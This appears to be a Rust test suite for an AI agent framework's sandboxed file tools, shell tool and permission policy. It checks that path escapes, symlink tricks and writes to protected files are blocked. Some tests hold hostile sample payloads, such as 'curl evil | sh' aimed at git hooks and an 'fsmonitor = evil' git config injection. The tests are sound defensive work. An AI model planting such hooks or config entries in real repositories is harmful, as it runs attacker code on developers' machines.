//! The workspace file tools, the shell tool and the permission policy.

use lucid_mock::running;

use std::path::PathBuf;
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};

use futures::FutureExt;
use futures::future::BoxFuture;
use lucid::model::OpenAiCompatible;
use lucid::tool::catalogue::Catalogue;
use lucid::tool::permission::{Approval, Approver, Permission, PermissionPolicy};
use lucid::tool::{Tool, ToolSet};
use lucid::{Agent, ToolCall};
use lucid_mock::{MockServer, Reply, text_completion, tool_call_completion};
use lucid_tools::Workspace;
use serde_json::json;

fn temp_dir(name: &str) -> PathBuf {
    let d = std::env::temp_dir().join(format!("lucid-tools-{name}-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&d);
    std::fs::create_dir_all(&d).unwrap();
    d
}

fn tools(root: &std::path::Path) -> Vec<Arc<dyn Tool>> {
    Arc::new(Workspace::new(root).unwrap()).tools()
}

async fn call(tools: &[Arc<dyn Tool>], name: &str, args: serde_json::Value) -> Result<String, String> {
    let t = tools.iter().find(|t| t.spec().name() == name).unwrap();
    t.invoke(args, Default::default()).await.map_err(|e| e.message().to_string())
}

#[tokio::test]
async fn paths_that_escape_the_workspace_are_refused() {
    let root = temp_dir("escape");
    let outside = temp_dir("outside");
    std::fs::write(outside.join("secret.txt"), "top secret").unwrap();
    std::os::unix::fs::symlink(&outside, root.join("link")).unwrap();
    std::os::unix::fs::symlink(outside.join("secret.txt"), root.join("file-link")).unwrap();
    std::fs::create_dir_all(root.join("a/b")).unwrap();
    let t = tools(&root);
    for (tool, args, expected) in [
        ("read_file", json!({"path": "../outside/secret.txt"}), "points outside the workspace"),
        ("read_file", json!({"path": "a/b/../../../x"}), "points outside the workspace"),
        ("read_file", json!({"path": outside.join("secret.txt").to_string_lossy()}), "is absolute"),
        ("read_file", json!({"path": "~/x"}), "is absolute"),
        ("read_file", json!({"path": "link/secret.txt"}), "through a symbolic link"),
        ("read_file", json!({"path": "file-link"}), "through a symbolic link"),
        ("list_dir", json!({"path": "link"}), "through a symbolic link"),
        ("write_file", json!({"path": "link/new.txt", "content": "x"}), "through a symbolic link"),
        ("write_file", json!({"path": "../new.txt", "content": "x"}), "points outside"),
        ("edit_file", json!({"path": "link/secret.txt", "old": "top", "new": "no"}), "through a symbolic link"),
        ("search_files", json!({"pattern": "secret", "path": "link"}), "through a symbolic link"),
    ] {
        let err = call(&t, tool, args.clone()).await.unwrap_err();
        assert!(err.contains(expected), "{tool} {args}: {err}");
    }
    assert!(!outside.join("new.txt").exists());
    assert_eq!(std::fs::read_to_string(outside.join("secret.txt")).unwrap(), "top secret");
    // A search from the root does not follow the links either.
    assert_eq!(call(&t, "search_files", json!({"pattern": "top secret"})).await.unwrap(), "no matches");
}

#[tokio::test]
async fn a_dangling_link_in_the_workspace_is_not_written_through() {
    let root = temp_dir("dangling");
    let outside = temp_dir("dangling-outside");
    // A cloned repository can carry such links: their targets do not exist (yet).
    std::os::unix::fs::symlink(outside.join("planted.txt"), root.join("harmless.txt")).unwrap();
    std::os::unix::fs::symlink(outside.join("newdir"), root.join("dir-link")).unwrap();
    let t = tools(&root);
    for path in ["harmless.txt", "dir-link/file.txt", "dir-link/deeper/file.txt"] {
        let err = call(&t, "write_file", json!({"path": path, "content": "pwned"})).await.unwrap_err();
        assert!(err.contains("symbolic link"), "{path}: {err}");
    }
    let err = call(&t, "edit_file", json!({"path": "harmless.txt", "old": "a", "new": "b"})).await.unwrap_err();
    assert!(err.contains("symbolic link"), "{err}");
    assert!(!outside.join("planted.txt").exists(), "the write followed the dangling link");
    assert!(!outside.join("newdir").exists(), "a folder was created through the dangling link");
    assert!(std::fs::symlink_metadata(root.join("harmless.txt")).unwrap().file_type().is_symlink());
}

#[tokio::test]
async fn read_file_pages_through_a_line_too_long_to_read_whole() {
    let root = temp_dir("longline");
    // 600,000 bytes on one line, with a two-byte character across the 256 KiB mark.
    let mut line = "a".repeat(256 * 1024 - 1);
    line.push('é');
    line.push_str(&"b".repeat(600_000 - line.len()));
    std::fs::write(root.join("one.txt"), format!("{line}\nlast\n")).unwrap();
    let t = tools(&root);
    let first = call(&t, "read_file", json!({"path": "one.txt"})).await.unwrap();
    assert!(first.starts_with("aaa") && !first.contains('é'), "cut before the character");
    assert!(
        first.ends_with(
            "[line 1 is longer than 256 KiB: bytes 0-262143 of the file shown; read on with byte_offset=262143]\n"
        ),
        "{}",
        &first[first.len() - 200..]
    );
    let mut text = first[..262_143].to_string();
    let mut at = 262_143u64;
    loop {
        let piece = call(&t, "read_file", json!({"path": "one.txt", "byte_offset": at})).await.unwrap();
        match piece.rsplit_once("\n[bytes ") {
            Some((body, footer)) => {
                text.push_str(body);
                at = footer.rsplit_once("byte_offset=").unwrap().1.trim_end_matches("]\n").parse().unwrap();
            }
            None => {
                text.push_str(&piece);
                break;
            }
        }
    }
    assert_eq!(text, format!("{line}\nlast\n"), "the pieces add up to the file");
    assert_eq!(call(&t, "read_file", json!({"path": "one.txt", "offset": 2})).await.unwrap(), "last\n");
}

#[tokio::test]
async fn read_file_of_a_huge_file_reads_only_what_it_returns() {
    let root = temp_dir("huge");
    let f = std::fs::File::create(root.join("big.log")).unwrap();
    use std::io::Write;
    (&f).write_all(b"first\nsecond\n").unwrap();
    f.set_len(1 << 30).unwrap(); // 1 GiB, sparse: the rest is one line of NUL bytes
    let t = tools(&root);
    assert_eq!(
        call(&t, "read_file", json!({"path": "big.log", "limit": 1})).await.unwrap(),
        "first\n[lines 1-1 of a 1073741824-byte file; read on with offset=2]\n"
    );
    let third = call(&t, "read_file", json!({"path": "big.log", "offset": 3})).await.unwrap();
    assert!(third.ends_with("read on with byte_offset=262157]\n"), "{}", &third[third.len() - 120..]);
}

#[tokio::test]
async fn places_where_a_write_runs_code_are_never_written() {
    let root = temp_dir("protected");
    std::fs::create_dir_all(root.join(".git/hooks")).unwrap();
    std::fs::create_dir_all(root.join("vendor/lib/.git")).unwrap();
    std::fs::write(root.join(".git/config"), "[core]\n").unwrap();
    std::os::unix::fs::symlink(root.join(".git"), root.join("gitdir")).unwrap();
    let t = tools(&root);
    for path in [
        ".git/hooks/pre-commit",
        ".git/config",
        "./.git//config",
        "vendor/lib/.git/hooks/post-checkout",
        "gitdir/hooks/pre-commit",
        ".envrc",
        "sub/.envrc",
        ".env",
        ".env.local",
        ".vscode/tasks.json",
        ".hg/hgrc",
        ".svn/entries",
    ] {
        let err = call(&t, "write_file", json!({"path": path, "content": "curl evil | sh"})).await.unwrap_err();
        assert!(err.contains("protected"), "{path}: {err}");
    }
    let err = call(&t, "edit_file", json!({"path": ".git/config", "old": "[core]", "new": "[core]\nfsmonitor = evil"}))
        .await
        .unwrap_err();
    assert!(err.contains("protected"), "{err}");
    assert_eq!(std::fs::read_to_string(root.join(".git/config")).unwrap(), "[core]\n");
    assert!(!root.join(".git/hooks/pre-commit").exists() && !root.join(".envrc").exists());
    // Reading them is fine; names that merely look alike are not protected.
    assert_eq!(call(&t, "read_file", json!({"path": ".git/config"})).await.unwrap(), "[core]\n");
    for path in ["docs/git.md", ".github/workflows/ci.yml", "environment.txt", ".vscode/settings.json"] {
        call(&t, "write_file", json!({"path": path, "content": "ok"})).await.unwrap();
    }
    // Lifted by name.
    let relaxed = Arc::new(Workspace::new(&root).unwrap().unprotect(".env*")).tools();
    call(&relaxed, "write_file", json!({"path": ".env.example", "content": "PORT=1"})).await.unwrap();
    assert!(call(&relaxed, "write_file", json!({"path": ".envrc", "content": "x"})).await.is_err());
}

#[tokio::test]
async fn the_file_tools_read_list_search_write_and_edit() {
    let root = temp_dir("ops");
    let t = tools(&root);
    assert_eq!(
        call(&t, "write_file", json!({"path": "src/main.rs", "content": "fn main() {\n    println!(\"hi\");\n}\n"}))
            .await,
        Ok("wrote 34 bytes to src/main.rs".into())
    );
    std::fs::write(root.join("notes.txt"), (1..=10).map(|i| format!("line {i}\n")).collect::<String>()).unwrap();
    assert_eq!(call(&t, "list_dir", json!({})).await.unwrap(), "notes.txt\nsrc/");
    assert_eq!(
        call(&t, "read_file", json!({"path": "notes.txt", "offset": 3, "limit": 2})).await.unwrap(),
        "line 3\nline 4\n[lines 3-4 of 10; read on with offset=5]\n"
    );
    assert_eq!(
        call(&t, "search_files", json!({"pattern": "PRINTLN", "glob": "*.rs"})).await.unwrap(),
        "src/main.rs:2: println!(\"hi\");"
    );
    assert_eq!(
        call(&t, "edit_file", json!({"path": "src/main.rs", "old": "\"hi\"", "new": "\"hello\""})).await,
        Ok("edited src/main.rs".into())
    );
    assert!(std::fs::read_to_string(root.join("src/main.rs")).unwrap().contains("\"hello\""));
    let twice = call(&t, "edit_file", json!({"path": "notes.txt", "old": "line", "new": "row"})).await.unwrap_err();
    assert!(twice.contains("occurs 10 times"), "{twice}");
    let missing = call(&t, "read_file", json!({"path": "nope.txt"})).await.unwrap_err();
    assert!(missing.starts_with("cannot read `nope.txt`"), "{missing}");
}

#[tokio::test]
async fn what_a_command_leaves_running_is_killed_and_keys_are_not_passed_on() {
    let root = temp_dir("shell-leftover");
    let shell = lucid_sandbox::Shell::new(&root);
    // Found by a marker in its command line: in the sandbox's PID namespace `$!` is not
    // the pid this process sees.
    let marker = format!("{}.{}", 600 + std::process::id() % 1000, fastrand::u32(..1_000_000));
    let out = shell
        .invoke(
            json!({"command": format!("nohup sleep {marker} >/dev/null 2>&1 & sleep 0.3; echo started")}),
            Default::default(),
        )
        .await
        .unwrap();
    assert!(out.contains("started"), "{out}");
    // The group was killed when the command returned; wait for the kernel to reap it.
    let mut alive = true;
    for _ in 0..200 {
        alive = running(&marker);
        if !alive {
            break;
        }
        tokio::time::sleep(std::time::Duration::from_millis(25)).await;
    }
    assert!(!alive, "the background `sleep {marker}` outlived the command");

    // SAFETY: the variable is unique to this test; nothing else reads it.
    unsafe { std::env::set_var("LUCID_TEST_SHELL_API_KEY", "sk-secret-123") };
    let env = shell.invoke(json!({"command": "env"}), Default::default()).await.unwrap();
    assert!(env.contains("PATH="), "{env}");
    assert!(!env.contains("sk-secret-123"), "the key reached the command's environment");
}

#[tokio::test]
async fn the_shell_has_a_timeout_and_an_output_cap() {
    let root = temp_dir("shell");
    let shell = lucid_sandbox::Shell::new(&root).timeout(std::time::Duration::from_millis(300)).output_cap(1000);
    let out = shell
        .invoke(json!({"command": "head -c 5000 /dev/zero | tr '\\0' x; echo oops >&2; exit 3"}), Default::default())
        .await
        .unwrap();
    assert!(out.starts_with("exit code 3\nxxxx"), "{out}");
    assert!(out.ends_with("[output cut: 4014 more bytes not shown]"), "{out}");
    let started = std::time::Instant::now();
    let err = shell.invoke(json!({"command": "sleep 30 & sleep 30; echo done"}), Default::default()).await.unwrap_err();
    assert_eq!(err.message(), "the command did not finish within 0.3 s and was killed");
    assert!(
        started.elapsed() < std::time::Duration::from_secs(20),
        "the background child holding the pipe was killed too"
    );
    let pwd = shell.invoke(json!({"command": "pwd"}), Default::default()).await.unwrap();
    assert_eq!(pwd.trim_end().lines().last().unwrap(), std::fs::canonicalize(&root).unwrap().to_string_lossy());
}

struct Counting {
    asked: AtomicUsize,
    answer: Approval,
}

impl Approver for Counting {
    fn approve<'a>(&'a self, _call: &'a ToolCall) -> BoxFuture<'a, Approval> {
        self.asked.fetch_add(1, Ordering::SeqCst);
        async move { self.answer }.boxed()
    }
}

async fn run_with(policy: PermissionPolicy, calls: usize) -> (lucid::AgentResult, usize) {
    let mut replies: Vec<Reply> = (0..calls)
        .map(|i| {
            Reply::json(200, &tool_call_completion(&[(&format!("c{i}"), "calculator", r#"{"expression": "1+1"}"#)]))
        })
        .collect();
    replies.push(Reply::json(200, &text_completion("done")));
    let server = MockServer::sequence(replies).await;
    let agent = Agent::builder(Arc::new(OpenAiCompatible::new(&server.url(), None, "m").unwrap()))
        .tool(lucid_tools::calculator)
        .permissions(policy)
        .build();
    let r = agent.session().run("go").await.unwrap();
    (r, server.requests().len())
}

#[tokio::test]
async fn the_permission_policy_allows_asks_and_denies() {
    let (r, _) = run_with(PermissionPolicy::allow_all().set("calculator", Permission::Deny), 1).await;
    assert!(r.tool_calls[0].is_error);
    assert!(r.tool_calls[0].output.as_deref().unwrap().contains("not allowed here (permission policy: deny)"));

    let (r, _) = run_with(PermissionPolicy::allow_all().set("calculator", Permission::Ask), 1).await;
    assert!(r.tool_calls[0].output.as_deref().unwrap().contains("nobody can give it here"));

    let no = Arc::new(Counting { asked: AtomicUsize::new(0), answer: Approval::No });
    let (r, _) = run_with(
        PermissionPolicy::asking_before_writes(&Catalogue::new().with(lucid_tools::TOOLS).with(lucid_sandbox::TOOLS))
            .set("calculator", Permission::Ask)
            .approver(no.clone()),
        1,
    )
    .await;
    assert!(r.tool_calls[0].output.as_deref().unwrap().contains("The user declined"));
    assert_eq!(no.asked.load(Ordering::SeqCst), 1);

    let always = Arc::new(Counting { asked: AtomicUsize::new(0), answer: Approval::Always });
    let policy = PermissionPolicy::allow_all().set("calculator", Permission::Ask).approver(always.clone());
    let (r, _) = run_with(policy, 2).await;
    assert_eq!(r.tool_calls.iter().map(|c| c.output.as_deref().unwrap()).collect::<Vec<_>>(), ["2", "2"]);
    assert_eq!(always.asked.load(Ordering::SeqCst), 1, "`always` is remembered");
}

#[tokio::test]
async fn a_guarded_tool_asks_its_policy_outside_the_loop() {
    let catalogue = Catalogue::new().with(lucid_tools::TOOLS).with(lucid_sandbox::TOOLS);
    for t in &catalogue {
        let expected = if t.writes { Permission::Ask } else { Permission::Allow };
        assert_eq!(PermissionPolicy::asking_before_writes(&catalogue).permission(t.name), expected, "{}", t.name);
    }
    let calc: Arc<dyn Tool> = Arc::new(lucid_tools::calculator);
    let allowed =
        PermissionPolicy::asking_before_writes(&Catalogue::new().with(lucid_tools::TOOLS).with(lucid_sandbox::TOOLS))
            .guard(calc.clone());
    assert!(Arc::ptr_eq(&allowed, &calc), "a tool the policy allows outright is not wrapped");
    let args = || json!({"expression": "1+1"});
    let denied = PermissionPolicy::allow_all().set("calculator", Permission::Deny).guard(calc.clone());
    assert_eq!(denied.spec(), calc.spec());
    let err = denied.invoke(args(), Default::default()).await.unwrap_err();
    assert!(err.message().contains("not allowed here (permission policy: deny)"), "{}", err.message());
    let nobody = PermissionPolicy::allow_all().set("calculator", Permission::Ask).guard(calc.clone());
    assert!(nobody.invoke(args(), Default::default()).await.unwrap_err().message().contains("nobody can give it here"));
    let always = Arc::new(Counting { asked: AtomicUsize::new(0), answer: Approval::Always });
    let asked = PermissionPolicy::allow_all().set("calculator", Permission::Ask).approver(always.clone()).guard(calc);
    for _ in 0..2 {
        assert_eq!(asked.invoke(args(), Default::default()).await.unwrap(), "2");
    }
    assert_eq!(always.asked.load(Ordering::SeqCst), 1, "`always` is remembered");
}

/// `read_file` on an image or a PDF attaches it for a model that takes the kind, and says
/// why it cannot show it to one that does not (or whose capabilities are unknown).
#[tokio::test]
async fn read_file_attaches_an_image_or_pdf_only_for_a_model_that_takes_it() {
    use lucid::model::catalogue::Capabilities;
    use lucid::tool::ToolContext;
    let root = temp_dir("media");
    let png = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\0\x01\0\0\0\x01".to_vec();
    std::fs::write(root.join("shot.png"), &png).unwrap();
    std::fs::write(root.join("doc.bin"), b"%PDF-1.4\n%%EOF\n").unwrap();
    let ts = tools(&root);
    let t = ts.iter().find(|t| t.spec().name() == "read_file").unwrap();

    let seeing = ToolContext { accepts: Some(Capabilities::IMAGE), ..Default::default() };
    let out = t.invoke(json!({"path": "shot.png"}), seeing.clone()).await.unwrap();
    assert!(out.contains("image/png (24 bytes): attached"), "{out}");
    assert_eq!(seeing.attachments.take(), vec![lucid::Part::from_file_bytes(png, Some("shot.png")).unwrap()]);
    let refused = t.invoke(json!({"path": "doc.bin"}), seeing.clone()).await.unwrap_err();
    assert!(
        refused.message().contains("application/pdf") && refused.message().contains("takes no such input"),
        "{refused}"
    );
    assert!(seeing.attachments.take().is_empty());

    let blind = ToolContext { accepts: Some(Capabilities::TEXT), ..Default::default() };
    let refused = t.invoke(json!({"path": "shot.png"}), blind.clone()).await.unwrap_err();
    assert!(refused.message().contains("cannot be shown"), "{refused}");
    assert!(blind.attachments.take().is_empty());
    // Text files read as always.
    std::fs::write(root.join("a.txt"), "hello\n").unwrap();
    assert!(call(&ts, "read_file", json!({"path": "a.txt"})).await.unwrap().contains("hello"));
}
